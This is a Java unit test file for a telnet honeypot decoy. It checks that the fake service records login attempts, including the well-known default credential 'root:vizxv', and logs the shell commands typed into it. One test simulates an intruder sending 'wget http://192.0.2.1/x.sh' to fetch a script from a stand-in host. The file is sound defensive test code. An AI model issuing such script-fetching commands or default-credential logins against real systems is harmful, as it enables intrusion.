package org.decnet.decoy.telnet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.apache.commons.net.telnet.TelnetClient;
import org.decnet.decoy.Decoy;
import org.decnet.decoy.DecoyContract;
import org.decnet.decoy.ReadLines;
import org.decnet.decoy.TestSite;
import org.decnet.decoy.listen.Site;
import org.decnet.decoy.listen.Talk;
import org.decnet.decoy.login.Accounts;
import org.decnet.decoy.login.LoginSettings;
import org.decnet.model.event.Event;
import org.decnet.model.event.EventKind;
import org.decnet.model.event.Field;
import org.junit.jupiter.api.Test;

class TelnetDecoyTest extends DecoyContract {
  @Override
  protected String service() {
    return "telnet";
  }

  @Override
  protected Talk talk(Site site) {
    return new TelnetTalk(site, LoginSettings.of(Map.of("logins", "root:vizxv,guest:*")));
  }

  /** A client that reads what comes until something stands there. */
  private static final class Talker implements AutoCloseable {
    private final TelnetClient client = new TelnetClient();
    private final InputStream in;

    Talker(Decoy decoy) throws IOException {
      client.connect(decoy.address().getAddress(), decoy.address().getPort());
      client.setSoTimeout(30_000);
      in = client.getInputStream();
    }

    String until(String end) throws IOException {
      StringBuilder text = new StringBuilder();
      while (text.indexOf(end) < 0) {
        int one = in.read();
        if (one < 0) {
          throw new AssertionError("It ended after " + text);
        }
        text.append((char) one);
      }
      return text.toString();
    }

    Talker say(String line) throws IOException {
      client.getOutputStream().write((line + "\n").getBytes(StandardCharsets.UTF_8));
      client.getOutputStream().flush();
      return this;
    }

    @Override
    public void close() throws IOException {
      client.disconnect();
    }
  }

  @Test
  void aRealClientLogsInAndItsCommandsAreAnsweredAndTakenDown() throws Exception {
    TestSite site = new TestSite();
    try (Decoy decoy = start(site);
        Talker talker = new Talker(decoy)) {
      talker.until("login: ");
      talker.say("root").until("Password: ");
      talker.say("wrong").until("Login incorrect");
      talker.until("login: ");
      talker.say("root").until("Password: ");
      assertThat(talker.say("vizxv").until("# ")).doesNotContain("vizxv");
      assertThat(talker.say("cd /tmp; uname -m; echo hi > a && cat a").until("# "))
          .contains("x86_64\r\nhi\r\n");
      assertThat(talker.say("wget http://192.0.2.1/x.sh").until("/tmp# "))
          .contains("Connection refused");
      talker.say("exit");
      List<Event> events = ReadLines.of(site.untilDisconnect());
      List<Event> logins = events.stream().filter(e -> e.kind() == EventKind.AUTH_ATTEMPT).toList();
      assertThat(logins)
          .extracting(e -> e.text(Field.OUTCOME))
          .containsExactly("failure", "success");
      assertThat(logins.getLast().text(Field.PASSWORD)).isEqualTo("vizxv");
      List<Event> commands = events.stream().filter(e -> e.kind() == EventKind.COMMAND).toList();
      assertThat(commands)
          .extracting(e -> e.text(Field.COMMAND_TEXT))
          .containsExactly(
              "cd /tmp; uname -m; echo hi > a && cat a", "wget http://192.0.2.1/x.sh", "exit");
      assertThat(commands.get(1).text(Field.PWD)).isEqualTo("/tmp");
      assertThat(commands.getFirst().text(Field.USER)).isEqualTo("root");
    }
    assertThat(site.faults()).isEmpty();
  }

  @Test
  void threeWrongPasswordsEndTheSession() throws Exception {
    TestSite site = new TestSite();
    try (Decoy decoy = start(site);
        Talker talker = new Talker(decoy)) {
      for (int i = 0; i < 3; i++) {
        talker.until("login: ");
        talker.say("root").until("Password: ");
        talker.say("no" + i).until("Login incorrect");
      }
      assertThat(ReadLines.of(site.untilDisconnect()))
          .filteredOn(e -> e.kind() == EventKind.AUTH_ATTEMPT)
          .hasSize(3);
    }
  }

  @Test
  void weakPasswordsAreThoseOfTheDecoyAndNotOfAll() {
    Accounts one = weak(1);
    assertThat(weak(1)).isEqualTo(one);
    assertThat(List.of(weak(2), weak(3), weak(4))).anyMatch(other -> !other.equals(one));
  }

  private static Accounts weak(long seed) {
    return new Accounts(List.of())
        .orWeakOnes(new TestSite(seed).site().persona(), "telnet", "root");
  }
}
